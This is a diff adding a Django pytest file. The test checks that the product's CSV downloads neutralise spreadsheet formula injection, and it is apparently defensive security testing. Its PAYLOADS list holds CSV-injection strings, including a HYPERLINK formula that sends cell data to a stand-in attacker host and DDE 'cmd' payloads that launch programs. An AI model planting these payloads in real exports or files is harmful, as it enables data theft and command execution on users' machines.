@@ -1,0 +1,101 @@
+"""Formulas in every CSV that can be downloaded, for spreadsheets of every language."""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import re
+from itertools import product
+from typing import Any
+
+import pytest
+from django.test import Client
+from django.utils import timezone
+
+from kpis.models import KPI
+from kpis.services.readings import record_readings
+from mltrack.accounts.access import Principal
+from projects.models import Initiative
+from projects.services.columns import choose_columns
+from projects.services.pushes import push_runs
+from tests.browser.worlds import World
+from tests.trust.attacks.paths import every_path
+
+pytestmark = pytest.mark.django_db
+STARTS = "=+-@＝＋－＠"
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example?x="&A1,"click")',
+    "=cmd|'/C calc'!A0",
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "  =1+1",
+    "\u00a0=1+1",
+    "＝1+1",
+    "x;=1+1",
+    "x; @SUM(A1)",
+    'x";=1+1;"',
+    "x,=1+1",
+    '","=1+1',
+    "-",
+    "=",
+]
+
+
+def is_formula(cell: str) -> bool:
+    """Say whether a spreadsheet would run a cell."""
+    try:
+        return not math.isfinite(float(cell)) and cell[:1] in STARTS
+    except ValueError:
+        return (cell.lstrip(' "\u00a0')[:1] or "x") in STARTS
+
+
+def formulas(text: str) -> list[str]:
+    """Return the cells that would run, whatever the spreadsheet takes for the end of a cell."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    pieces = re.split(r"[;\t\r\n]", text)
+    return [each for each in (*cells, *pieces) if is_formula(each)]
+
+
+def downloads(world: World, client: Client) -> dict[str, str]:
+    """Return every download of the product that is CSV, by the name of its path."""
+    found = {}
+    for name, path in every_path(world):
+        answer = client.get(path)
+        if answer.headers.get("Content-Type", "").startswith("text/csv"):
+            assert "attachment" in answer.headers["Content-Disposition"]
+            found[name] = answer.getvalue().decode()
+    return found
+
+
+def plant(world: World) -> None:
+    """Write the payloads wherever a row of a download may show them."""
+    biopsy = Initiative.objects.get(key="BIOPSY")
+    person = Principal(workspace=biopsy.workspace, role="admin", user=world.user, is_approver=True)
+    runs: list[dict[str, Any]] = []
+    for number, text in enumerate(PAYLOADS):
+        named = {text: text}
+        run = {"external_id": f"{text}{number}", "name": text, "status": "finished", "params": named, "tags": named}
+        runs.append({**run, "metrics": {text: number}})
+    outcome = push_runs(person, biopsy, runs)
+    assert outcome
+    columns = [f"{kind}:{text}" for kind, text in product(("metric", "param"), PAYLOADS)][:30]
+    choose_columns(person, biopsy, columns)
+    kpi = KPI.objects.get(key=world.full["k"])
+    readings = [{"time": timezone.now(), "value": 1.0, "segment": text.strip()} for text in PAYLOADS]
+    record_readings(kpi, readings, person)
+
+
+def test_no_cell_of_any_download_runs(world: World, client: Client) -> None:
+    plant(world)
+    found = downloads(world, client)
+    assert set(found) == {"kpis:kpi_export", "kpis:runs_csv"}
+    for name, text in found.items():
+        assert "cmd|" in text, name
+        assert formulas(text) == [], name
+
+
+def test_the_reader_knows_a_formula() -> None:
+    assert formulas("a,=1\r\n") and formulas('"x;=1"\r\n') and formulas("x\n@SUM(A1)\n")
+    assert not formulas("a,'=1,-2.5\r\n")
